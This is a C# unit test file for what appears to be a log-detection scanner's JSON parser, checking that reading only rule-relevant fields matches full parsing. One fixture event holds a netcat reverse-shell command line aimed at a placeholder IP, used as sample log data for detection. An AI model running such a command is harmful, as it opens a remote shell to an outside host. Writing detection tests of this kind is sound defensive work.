using Bulwark.Scanners.Detection.Events;
using Bulwark.Scanners.Detection.Parsing;
using Bulwark.Scanners.Detection.Parsing.Json;

namespace Bulwark.Scanners.Detection.Tests.Parsing;

/// <summary>
/// Reading only the fields rules look at must give exactly what reading everything gives for those fields, and the rest
/// must come back whole when a detection reports the event.
/// </summary>
public sealed class ProjectedJsonTests
{
    private static readonly string[] Lines =
    [
        JsonLinesFormatTests.AppLine,
        "{\"Image\":\"/usr/bin/nc\",\"CommandLine\":\"nc -e /bin/sh 203.0.113.7 4444\",\"User\":\"root\",\"Pid\":4242,\"Ok\":true}",
        // Escapes in names and values, a slash written as \/, non-ASCII text, a duplicate name, an array of arrays.
        "{\"Comm\\u0061ndLine\":\"echo \\\"x\\\" \\/tmp\\/\\u00e9t\\u00e9\",\"User\":\"ren\u00e9e\",\"User\":\"root\",\"tags\":[[\"a\",\"b\"],[\"c\"]]}",
        // Objects inside arrays inside objects, nulls at every depth, a null before a value of the same name.
        "{\"proc\":{\"args\":[{\"v\":\"-e\"},{\"v\":null},{\"v\":\"/bin/sh\"}],\"parent\":null},\"x\":null,\"x\":\"later\"}",
        // An empty name at the top and a dotted name that collides with a nested one.
        "{\"\":{\"a\":\"top\"},\"a.b\":\"flat\",\"a\":{\"b\":\"nested\"}}",
    ];

    private static readonly string[] Wanted =
        ["level", "host.ip", "user.roles", "http.status", "http.ok", "trace", "items.id", "Image", "CommandLine", "User", "Pid",
        "Ok", "tags", "proc.args.v", "proc.parent", "x", "a", "a.b", "missing"];

    [Fact]
    public void The_wanted_fields_read_alone_equal_the_same_fields_read_with_all_the_others()
    {
        var whole = new JsonLinesFormat();
        var projected = (ILineFormat)whole.Reading(new HashSet<string>(Wanted));
        foreach (var (line, number) in Lines.Select((l, i) => (l, (long)i + 1)))
        {
            var all = whole.ParseLine(number, line, "x.jsonl")!;
            var some = projected.ParseLine(number, line, "x.jsonl")!;

            Assert.NotNull(some.Partial);
            // The time and host fields are read as well, whether wanted or not.
            Assert.Equal(Describe(all.Fields.Where(f => Wanted.Contains(f.Key) || some.Fields.ContainsKey(f.Key))), Describe(some.Fields));
            Assert.All(some.Fields.Keys, k => Assert.True(Wanted.Contains(k) || k is "@timestamp" or "host.name" or "host" or "hostname" or "time" or "timestamp" or "ts", k));
            Assert.Equal(all.Time, some.Time);
            Assert.Equal(all.Host, some.Host);
            Assert.Equal(Describe(all.Fields), Describe(some.AllFields()));
        }
    }

    [Fact]
    public void A_line_read_from_its_bytes_gives_the_event_its_text_gives()
    {
        var projected = (IUtf8LineFormat)new JsonLinesFormat().Reading(new HashSet<string>(Wanted));
        foreach (var (line, number) in Lines.Append(" \u00a0{\"Image\":\"/bin/sh\"}\u2003 ").Append("{\"Image\":1} x").Select((l, i) => (l, (long)i + 1)))
        {
            var fromText = projected.ParseLine(number, line, "x.jsonl");
            var fromBytes = projected.ParseLine(number, System.Text.Encoding.UTF8.GetBytes(line), "x.jsonl");

            Assert.Equal(fromText is null, fromBytes is null);
            if (fromText is not null)
            {
                Assert.Equal(Describe(fromText.Fields), Describe(fromBytes!.Fields));
                Assert.Equal((fromText.Time, fromText.Host, fromText.Raw), (fromBytes.Time, fromBytes.Host, fromBytes.Raw));
                Assert.Equal(Describe(fromText.AllFields()), Describe(fromBytes.AllFields()));
            }
        }
    }

    [Fact]
    public void Time_and_host_are_read_even_when_no_rule_wants_them()
    {
        var e = ((ILineFormat)new JsonLinesFormat().Reading(new HashSet<string> { "level" })).ParseLine(1, JsonLinesFormatTests.AppLine, "x")!;

        Assert.Equal(new DateTimeOffset(2024, 3, 10, 9, 15, 2, 250, TimeSpan.Zero), e.Time);
        Assert.Equal("api-3", e.Host);
        Assert.False(e.Fields.ContainsKey("user.roles"));
    }

    [Fact]
    public void Renamed_fields_are_read_by_their_source_names()
    {
        var mapping = new JsonFieldMapping { Renames = new Dictionary<string, string> { ["proc.cmd"] = "CommandLine", ["cmd"] = "Command" } };
        var format = (ILineFormat)new JsonLinesFormat(mapping).Reading(new HashSet<string> { "CommandLine", "cmd" });
        const string Line = "{\"proc\":{\"cmd\":\"id\"},\"CommandLine\":\"also\",\"cmd\":\"renamed away\"}";

        var e = format.ParseLine(1, Line, "x")!;

        // Both the renamed source and a source already called CommandLine feed the field, as when reading everything.
        Assert.Equal(["id", "also"], e.Fields["CommandLine"].Values);
        Assert.Equal(e.Fields["CommandLine"].Values, new JsonLinesFormat(mapping).ParseLine(1, Line, "x")!.Fields["CommandLine"].Values);
        // "cmd" is renamed to Command, so no event has a field called cmd.
        Assert.False(e.Fields.ContainsKey("cmd"));
    }

    [Theory]
    [InlineData("{\"Image\":\"/bin/sh\"} trailing")]
    [InlineData("{\"Image\":\"/bin/sh\",}")]
    [InlineData("{\"Image\":\"/bin/sh\"")]
    [InlineData("{\"Image\":/bin/sh}")]
    [InlineData("[{\"Image\":\"/bin/sh\"}]")]
    public void A_line_that_is_not_one_json_object_is_refused_as_the_whole_reader_refuses_it(string line)
    {
        var projected = (ILineFormat)new JsonLinesFormat().Reading(new HashSet<string> { "Image" });

        Assert.Null(projected.ParseLine(1, line, "x"));
        Assert.Null(new JsonLinesFormat().ParseLine(1, line, "x"));
    }

    private static string Describe(IEnumerable<KeyValuePair<string, EventValue>> fields) =>
        string.Join("\n", fields.OrderBy(f => f.Key, StringComparer.Ordinal).Select(f => $"{f.Key}={f.Value}"));

    [Fact]
    public void A_value_seen_again_is_the_same_shared_value_from_its_second_sighting_on()
    {
        var format = (ILineFormat)new JsonLinesFormat().Reading(new HashSet<string> { "Image", "Pid" });
        LogEvent Parse(long n, string image, int pid) => format.ParseLine(n, $"{{\"Image\":\"{image}\",\"Pid\":{pid}}}", "x")!;

        var first = Parse(1, "/usr/bin/nc", 1);
        var second = Parse(2, "/usr/bin/nc", 2);
        var other = Parse(3, "/usr/bin/ls", 3);
        var escaped = Parse(4, "\\/usr\\/bin\\/nc", 4);

        Assert.Same(first.Fields["Image"], second.Fields["Image"]);
        Assert.True(second.Fields["Image"].IsShared);
        Assert.Equal("/usr/bin/ls", other.Fields["Image"].Single);
        Assert.False(other.Fields["Image"].IsShared);
        // Other bytes for the same text are another entry, never a wrong one.
        Assert.Equal("/usr/bin/nc", escaped.Fields["Image"].Single);
        Assert.Equal(["1", "2", "3", "4"], new[] { first, second, other, escaped }.Select(e => e.Fields["Pid"].Single));
    }

    [Fact]
    public void A_field_whose_values_never_repeat_is_not_looked_up_for_a_while()
    {
        var recent = new RecentValues();
        for (var i = 0; i < 5000; i++)
        {
            var bytes = System.Text.Encoding.UTF8.GetBytes($"id-{i}");
            Assert.Null(recent.Find(bytes));
            recent.Add(bytes, $"id-{i}");
        }

        var again = System.Text.Encoding.UTF8.GetBytes("id-4999");
        Assert.Null(recent.Find(again));
        Assert.False(recent.Add(again, "id-4999").IsShared);
    }
}
